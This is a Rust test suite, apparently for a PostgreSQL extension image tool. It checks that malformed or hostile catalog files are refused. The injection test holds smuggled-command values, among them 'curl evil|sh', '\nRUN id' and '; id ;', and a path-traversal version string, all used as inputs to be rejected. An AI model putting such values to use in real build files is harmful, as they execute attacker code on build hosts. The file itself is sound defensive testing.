//! The catalog and selection side's promise under bad input: each case runs
//! the real `pgha-image` binary and asserts the exit code (2: bad input), a
//! message naming the thing and the fix (`hint:`), and that nothing was
//! written or fetched (the cache directory is not even created).

mod common;

use assert_cmd::Command;
use common::http::{Entry, Reply, Server, filler, sha256_hex, write_catalog};
use common::tarball::tar_gz;
use std::path::Path;
use std::process::Output;
use std::time::{Duration, Instant};

fn pgha(catalog: Option<&Path>, cache: &Path, args: &[&str]) -> Command {
    let mut c = common::cli::pgha();
    c.env_remove("PGHA_CATALOG")
        .env_remove("PGHA_CACHE_DIR")
        .env_remove("PGHA_MIRROR");
    if let Some(cat) = catalog {
        c.arg("--catalog").arg(cat);
    }
    c.arg("--cache-dir")
        .arg(cache)
        .args(args)
        .timeout(Duration::from_secs(30));
    c
}

fn text(out: &Output) -> String {
    format!(
        "--- stdout\n{}\n--- stderr\n{}",
        String::from_utf8_lossy(&out.stdout),
        String::from_utf8_lossy(&out.stderr)
    )
}

/// Exit 2, the error names every one of `what`, a hint names `fix`, and
/// nothing was written.
fn assert_bad_input(out: &Output, cache: &Path, what: &[&str], fix: &str) {
    let all = text(out);
    assert_eq!(out.status.code(), Some(2), "{all}");
    let err = String::from_utf8_lossy(&out.stderr);
    for w in what {
        assert!(err.contains(w), "{w:?} not in:\n{all}");
    }
    let hint = err
        .lines()
        .find(|l| l.trim_start().starts_with("hint: "))
        .unwrap_or_else(|| panic!("no hint:\n{all}"));
    assert!(hint.contains(fix), "hint does not name {fix:?}:\n{all}");
    assert!(out.stdout.is_empty(), "a result was printed:\n{all}");
    assert!(!cache.exists(), "the cache was touched:\n{all}");
}

#[test]
fn a_missing_or_wrong_catalog_directory_is_bad_input() {
    let tmp = tempfile::tempdir().unwrap();
    let cache = tmp.path().join("cache");
    let missing = tmp.path().join("no-such-catalog");
    for args in [&["fetch"][..], &["extensions", "list"], &["mirror", "out"]] {
        let out = pgha(Some(&missing), &cache, args).output().unwrap();
        assert_bad_input(&out, &cache, &["no-such-catalog", "does not exist"], "--catalog");
    }
    // Through the environment too.
    let mut c = pgha(None, &cache, &["fetch"]);
    c.env("PGHA_CATALOG", &missing);
    assert_bad_input(&c.output().unwrap(), &cache, &["does not exist"], "PGHA_CATALOG");

    let file = tmp.path().join("catalog.toml");
    std::fs::write(&file, "name = \"x\"\n").unwrap();
    let out = pgha(Some(&file), &cache, &["fetch"]).output().unwrap();
    assert_bad_input(&out, &cache, &["is not a directory"], "--catalog");
    assert_eq!(std::fs::read_to_string(&file).unwrap(), "name = \"x\"\n");

    let empty = tmp.path().join("empty");
    std::fs::create_dir(&empty).unwrap();
    let out = pgha(Some(&empty), &cache, &["fetch"]).output().unwrap();
    assert_bad_input(&out, &cache, &["no extension files"], "--catalog");
}

#[test]
fn hostile_catalog_files_are_refused_quickly() {
    let tmp = tempfile::tempdir().unwrap();
    let cache = tmp.path().join("cache");
    let server = Server::start();
    let body = tar_gz("a-1.0", &[("a.c", &filler(1000, 1))]);
    server.route("/a.tar.gz", Reply::Bytes(body.clone()));
    let good = |dir: &Path| {
        write_catalog(
            dir,
            &[Entry {
                name: "a",
                version: "1.0",
                url: server.url("/a.tar.gz"),
                sha256: sha256_hex(&body),
            }],
        )
    };

    // A FIFO named b.toml (opening it for reading would block forever).
    let fifo_dir = good(&tmp.path().join("fifo"));
    let fifo = fifo_dir.join("b.toml");
    let c = std::ffi::CString::new(fifo.to_str().unwrap()).unwrap();
    assert_eq!(unsafe { libc::mkfifo(c.as_ptr(), 0o644) }, 0);
    // A link to an endless device, a directory, and bytes that are not UTF-8.
    let zero_dir = good(&tmp.path().join("zero"));
    std::os::unix::fs::symlink("/dev/zero", zero_dir.join("b.toml")).unwrap();
    let dir_dir = good(&tmp.path().join("dir"));
    std::fs::create_dir(dir_dir.join("b.toml")).unwrap();
    let bin_dir = good(&tmp.path().join("bin"));
    std::fs::write(
        bin_dir.join("b.toml"),
        b"name = \"b\"\ndescription = \"\xff\xfe\"\n",
    )
    .unwrap();
    let big_dir = good(&tmp.path().join("big"));
    std::fs::write(big_dir.join("b.toml"), "# padding\n".repeat(200_000)).unwrap();

    for (dir, what) in [
        (&fifo_dir, "not a regular file"),
        (&zero_dir, "not a regular file"),
        (&dir_dir, "not a regular file"),
        (&bin_dir, "b.toml:2: not UTF-8"),
        (&big_dir, "too large for a catalog file"),
    ] {
        let started = Instant::now();
        let out = pgha(Some(dir), &cache, &["fetch", "--allow-http"])
            .output()
            .unwrap();
        assert_bad_input(&out, &cache, &["b.toml", what], "catalog");
        assert!(
            started.elapsed() < Duration::from_secs(10),
            "{what}: {:?}",
            started.elapsed()
        );
    }
    assert_eq!(server.total_requests(), 0);
}

#[test]
fn conflicting_versions_are_refused_naming_both() {
    let tmp = tempfile::tempdir().unwrap();
    let cache = tmp.path().join("cache");
    for list in ["vector@0.8.0,vector@0.7.4", "vector@0.8.0,vector,vector@v0.7.4"] {
        let out = pgha(None, &cache, &["fetch", "-e", list]).output().unwrap();
        assert_bad_input(
            &out,
            &cache,
            &["conflicting versions of vector", "vector@0.8.0", "vector@0.7.4"],
            "--extensions vector@VERSION",
        );
    }
    // The same version twice, or a bare name next to a version, is no conflict:
    // the version asked for wins (checked offline: exit 4 names that version).
    for list in [
        "vector@0.7.4,vector",
        "vector,vector@0.7.4",
        "vector@0.7.4,vector@v0.7.4",
    ] {
        let out = pgha(None, &cache, &["fetch", "--offline", "-e", list])
            .output()
            .unwrap();
        assert_eq!(out.status.code(), Some(4), "{list}: {}", text(&out));
        assert!(text(&out).contains("vector 0.7.4"), "{list}: {}", text(&out));
    }
}

#[test]
fn unknown_names_are_refused_with_suggestions() {
    let tmp = tempfile::tempdir().unwrap();
    let cache = tmp.path().join("cache");
    let out = pgha(None, &cache, &["fetch", "-e", "vectr"]).output().unwrap();
    assert_bad_input(
        &out,
        &cache,
        &["unknown extension \"vectr\"", "did you mean \"vector\""],
        "extensions list",
    );
    // Every unknown name at once, each with its suggestion.
    let out = pgha(None, &cache, &["fetch", "-e", "vectr,pg_crn,vector"])
        .output()
        .unwrap();
    assert_bad_input(
        &out,
        &cache,
        &[
            "\"vectr\" (did you mean \"vector\"?)",
            "\"pg_crn\" (did you mean \"pg_cron\"?)",
        ],
        "extensions list",
    );
    // A contrib extension is not in the catalog: the hint says why.
    let out = pgha(None, &cache, &["fetch", "-e", "pgcrypto"]).output().unwrap();
    assert_bad_input(&out, &cache, &["pgcrypto"], "contrib");
    let out = pgha(None, &cache, &["extensions", "show", "vectr"])
        .output()
        .unwrap();
    assert_bad_input(&out, &cache, &["did you mean \"vector\""], "extensions list");
    // An unknown version lists the ones there are.
    let out = pgha(None, &cache, &["fetch", "-e", "vector@9.9"])
        .output()
        .unwrap();
    assert_bad_input(&out, &cache, &["9.9", "0.8.0"], "vector@VERSION");
}

#[test]
fn a_version_cannot_walk_out_of_the_directories_it_names_files_in() {
    let tmp = tempfile::tempdir().unwrap();
    let cache = tmp.path().join("cache");
    let body = tar_gz("a-1.0", &[("a.c", &filler(1000, 1))]);
    let catalog = write_catalog(
        &tmp.path().join("catalog"),
        &[Entry {
            name: "a",
            // The mirror file would be <DIR>/a-1.0/../../escaped.tar.gz.
            version: "1.0/../../escaped",
            url: "https://example.invalid/a.tar.gz".into(),
            sha256: sha256_hex(&body),
        }],
    );
    let out_dir = tmp.path().join("out/mirror");
    std::fs::create_dir_all(out_dir.join("a-1.0")).unwrap();
    for args in [
        &["mirror", out_dir.to_str().unwrap(), "--offline"][..],
        &["fetch"],
        &["extensions", "list"],
    ] {
        let out = pgha(Some(&catalog), &cache, args).output().unwrap();
        assert_bad_input(&out, &cache, &["a.toml:", "is not a version"], "catalog file");
    }
    assert!(!tmp.path().join("escaped.tar.gz").exists());
    assert!(!tmp.path().join("out/escaped.tar.gz").exists());
}

/// Catalog words end up in the generated Dockerfile: one that would break
/// out of its place there (a newline starts a new instruction; an unquoted
/// word may hold shell) is refused at load, naming the file and the field.
#[test]
fn catalog_words_cannot_inject_into_the_generated_build() {
    let tmp = tempfile::tempdir().unwrap();
    let cache = tmp.path().join("cache");
    let sha = "0".repeat(64);
    let base = |extra_top: &str, build: &str| {
        format!(
            "name = \"a\"\ndescription = \"x\"\nlicense = \"MIT\"\nset = \"default\"\nversion = \"1.0\"\n\
             pg_majors = {{ min = 10 }}\n{extra_top}\n[build]\n{build}\n\n[[versions]]\nversion = \"1.0\"\n\
             tag = \"v1.0\"\nurl = \"https://example.invalid/a.tar.gz\"\nsha256 = \"{sha}\"\n\
             provenance = \"reproduced-only\"\n"
        )
    };
    let cases = [
        (
            "pgrx",
            base("", "kind = \"pgrx\"\npgrx = \"0.12.9 --locked; curl evil|sh #\""),
            "build.pgrx",
        ),
        (
            "features",
            base(
                "",
                "kind = \"pgrx\"\npgrx = \"0.12.9\"\nfeatures = [\"x\\\" ; id ; \\\"\"]",
            ),
            "build.features",
        ),
        (
            "packages",
            base("", "kind = \"pgxs\"\npackages = [\"curl\\nRUN id\"]"),
            "build.packages",
        ),
        (
            "setting",
            base("settings = { \"x\" = \"1\\nRUN id\" }", "kind = \"pgxs\""),
            "settings.x",
        ),
        (
            "preload",
            base("preload_library = \"a,evil\"", "kind = \"pgxs\""),
            "preload_library",
        ),
        (
            "description",
            base("", "kind = \"pgxs\"").replace("description = \"x\"", "description = \"x\\nRUN id\""),
            "description",
        ),
    ];
    for (what, text, field) in cases {
        let dir = tmp.path().join(what);
        std::fs::create_dir_all(&dir).unwrap();
        std::fs::write(dir.join("a.toml"), &text).unwrap();
        let out = pgha(Some(&dir), &cache, &["extensions", "list"])
            .output()
            .unwrap();
        assert_bad_input(&out, &cache, &["a.toml:", field], "catalog file");
    }
}

/// Decision: a `requires` cycle (a → b → c → a, or an extension requiring
/// itself) is refused when the catalog is loaded, by every command that
/// reads it: no order of CREATE EXTENSION could satisfy it. Exit 2 names
/// the cycle and its files; nothing is fetched or written.
#[test]
fn a_requires_cycle_is_refused_naming_it() {
    let tmp = tempfile::tempdir().unwrap();
    let cache = tmp.path().join("cache");
    let server = Server::start();
    let body = tar_gz("a-1.0", &[("a.c", &filler(1000, 1))]);
    server.route("/a.tar.gz", Reply::Bytes(body.clone()));
    let entry = |name: &'static str| Entry {
        name,
        version: "1.0",
        url: server.url("/a.tar.gz"),
        sha256: sha256_hex(&body),
    };
    let catalog = |dir: &str, edges: &[(&'static str, &str)]| {
        let names: Vec<_> = edges.iter().map(|(n, _)| entry(n)).collect();
        let dir = write_catalog(&tmp.path().join(dir), &names);
        for (name, req) in edges {
            let file = dir.join(format!("{name}.toml"));
            let text = std::fs::read_to_string(&file).unwrap();
            std::fs::write(&file, format!("requires = [\"{req}\", \"pgcrypto\"]\n{text}")).unwrap();
        }
        dir
    };
    let ring = catalog("ring", &[("a", "b"), ("b", "c"), ("c", "a")]);
    let own = catalog("own", &[("a", "a")]);
    for (dir, cycle, files) in [
        (&ring, "a → b → c → a", &["a.toml", "b.toml", "c.toml"][..]),
        (&own, "a → a", &["a.toml"][..]),
    ] {
        for args in [&["fetch", "--allow-http"][..], &["extensions", "list"]] {
            let out = pgha(Some(dir), &cache, args).output().unwrap();
            let mut what = vec!["extensions require each other in a cycle", cycle];
            what.extend_from_slice(files);
            assert_bad_input(&out, &cache, &what, "remove one of these `requires` entries");
        }
    }
    // A chain without a cycle (and a requirement outside the catalog, a
    // contrib extension) loads.
    let chain = catalog("chain", &[("a", "b"), ("b", "c"), ("c", "pg_trgm")]);
    let out = pgha(Some(&chain), &cache, &["extensions", "list"])
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(0), "{}", text(&out));
    assert_eq!(server.total_requests(), 0);
}
